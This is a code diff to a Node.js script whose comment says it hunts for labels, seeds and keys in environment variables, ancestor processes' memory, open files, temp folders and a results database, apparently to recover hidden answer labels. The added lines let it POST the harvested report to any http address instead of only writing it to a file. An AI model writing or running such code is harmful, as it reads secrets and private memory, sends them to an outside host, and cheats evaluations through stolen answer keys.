@@ -1,6 +1,7 @@
 // Searches for labels, seeds and keys everywhere that a process of this user can read: environment, command line, open files
 // and memory of its ancestors, temporary folders, the repository with its results database, and folders around it. Generates
-// documents of seeds that it found or guessed, and compares them. Answers with the labels that it finds. argv: [REPORT].
+// documents of seeds that it found or guessed, and compares them. Answers with the labels that it finds. argv: [REPORT],
+// a file or an address.
 import { spawnSync } from "node:child_process";
 import { createDecipheriv } from "node:crypto";
 import fs from "node:fs";
@@ -188,7 +189,8 @@ if (!isDevelopment && opened.length === 0) {
 const hunt = process.argv[2]?.startsWith("--") ? undefined : process.argv[2];
 const openedIds = opened.flatMap(({ labels }) => (labels ?? []).map(({ id }) => id));
 const report = { texts, seeds: [...seeds], bytesRead, keys: keys.size, opened: openedIds };
-if (hunt) fs.writeFileSync(hunt, JSON.stringify(report));
+if (hunt?.startsWith("http:")) await fetch(hunt, { method: "POST", body: JSON.stringify(report) });
+else if (hunt) fs.writeFileSync(hunt, JSON.stringify(report));
 for (const { id } of cases) {
   const { tags, duplicate_of, ...label } = found.get(id) ?? {};
   fs.appendFileSync(output, `${JSON.stringify({ ...label, id })}\n`);
